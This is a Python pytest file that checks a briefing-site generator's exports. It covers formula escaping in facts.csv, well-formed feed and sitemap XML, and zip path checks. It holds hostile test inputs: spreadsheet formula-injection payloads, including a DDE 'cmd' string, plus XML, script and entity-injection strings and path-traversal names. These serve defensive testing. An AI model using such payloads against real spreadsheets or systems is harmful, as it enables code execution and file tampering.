"""Exports safe by construction: spreadsheet formulas never run from facts.csv, the feed and the
sitemap stay well-formed XML whatever the content says, and zip entries never leave their folder."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import feedparser
import pytest
from conftest import copy_site
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from briefing.bundle import entry_name
from briefing.exports import spreadsheet_safe
from briefing.pipeline import build

CLAIM = "    claim: North Korea delivered more than a million artillery shells to Russia."
# (Texts are stripped when read, so a claim cannot start with a tab or CR: see the unit test below.)
FORMULAS = ['=HYPERLINK("http://example.com/x?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "=1+1"]


def _with_claim(site: Path, claim: str, title: str = "Weapons") -> None:
    sheet = site / "content/topics/weapons.yaml"
    text = sheet.read_text(encoding="utf-8")
    assert CLAIM in text
    # A JSON string is a YAML double-quoted scalar (controls stay escapes, the rest is written as is).
    text = text.replace(CLAIM, f"    claim: {json.dumps(claim, ensure_ascii=False)}", 1)
    text = text.replace("title: Weapons", f"title: {json.dumps(title, ensure_ascii=False)}", 1)
    sheet.write_text(text, encoding="utf-8")
    site_yaml = site / "site.yaml"
    if "base_url" not in site_yaml.read_text(encoding="utf-8"):
        site_yaml.write_text(site_yaml.read_text(encoding="utf-8") + "base_url: https://example.org/b/\n",
                             encoding="utf-8")


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_text_in_facts_csv(tmp_path: Path, formula: str) -> None:
    site = copy_site(tmp_path / "site")
    _with_claim(site, formula)
    result = build(site, tmp_path / "out")
    assert result.ok, [p.format() for p in result.problems]
    rows = list(csv.reader(io.StringIO((tmp_path / "out/data/facts.csv").read_bytes().decode("utf-8-sig"),
                                       newline="")))
    claims = [row[2] for row in rows[1:]]
    assert "'" + formula in claims, claims
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_spreadsheet_safe_leaves_numbers_and_plain_text() -> None:
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe("North Korea") == "North Korea"
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe("=1") == "'=1"
    assert spreadsheet_safe("\r=1") == "'\r=1"


def _well_formed(out: Path) -> None:
    for name in ("feed.xml", "sitemap.xml"):
        ET.fromstring((out / name).read_bytes())  # raises on anything ill-formed
    parsed = feedparser.parse((out / "feed.xml").read_bytes())
    assert not parsed.bozo, parsed.get("bozo_exception")


HOSTILE = ["]]><!-- <![CDATA[ x ]]> &amp; &#0; &#x1; <script>alert(1)</script> \"'",
           "right\u202eto left \u2028line\u2029para \ufeffbom \U0001f600 \u00a0nbsp",
           "{{ 7*7 }} {% raw %} &lt; <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY a 'b'>]> &a;"]


@pytest.mark.parametrize("claim", HOSTILE)
def test_feed_and_sitemap_are_well_formed_with_hostile_text(tmp_path: Path, claim: str) -> None:
    site = copy_site(tmp_path / "site")
    _with_claim(site, claim, title=claim)
    result = build(site, tmp_path / "out")
    assert result.ok, [p.format() for p in result.problems]
    _well_formed(tmp_path / "out")
    entries = feedparser.parse((tmp_path / "out/feed.xml").read_bytes()).entries
    assert claim.strip() in [e.title for e in entries]


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(min_size=1, max_size=60).filter(lambda t: t.strip()))
def test_any_claim_gives_a_well_formed_feed_or_a_located_error(tmp_path_factory: pytest.TempPathFactory,
                                                               claim: str) -> None:
    base = tmp_path_factory.mktemp("any")
    site = copy_site(base / "site")
    _with_claim(site, claim)
    result = build(site, base / "out")
    if result.ok:
        _well_formed(base / "out")
    else:  # refused: every error points into the fact sheet, at a line
        assert all(p.location.path == "content/topics/weapons.yaml" and p.location.line
                   for p in result.problems if p.is_error), [p.format() for p in result.problems]


@pytest.mark.parametrize("name", ["../evil.html", "/etc/x", "a/../../b", "a\\..\\b", "a/./b", "x\ny", "", "c:/x",
                                  "a//b"])
def test_zip_entry_names_are_checked(name: str) -> None:
    with pytest.raises(ValueError, match="unsafe in a zip"):
        entry_name("site", name)
    assert entry_name("site", "assets/style.css") == "site/assets/style.css"


def test_odd_file_names_in_templates_are_refused(tmp_path: Path) -> None:
    site = copy_site(tmp_path / "site")
    (site / "templates/assets").mkdir(parents=True)
    (site / "templates/assets/a\\b.css").write_text("x", encoding="utf-8")
    (site / "templates/assets/line\nbreak.css").write_text("x", encoding="utf-8")
    result = build(site, tmp_path / "out")
    assert [p.format() for p in result.problems if p.is_error] == [
        "templates/assets/a\\b.css: error: file name holds a backslash or a control character\n"
        "    hint: rename it (letters, digits, '-', '_' and '.')",
        "templates/assets/line\\x0abreak.css: error: file name holds a backslash or a control character\n"
        "    hint: rename it (letters, digits, '-', '_' and '.')"]
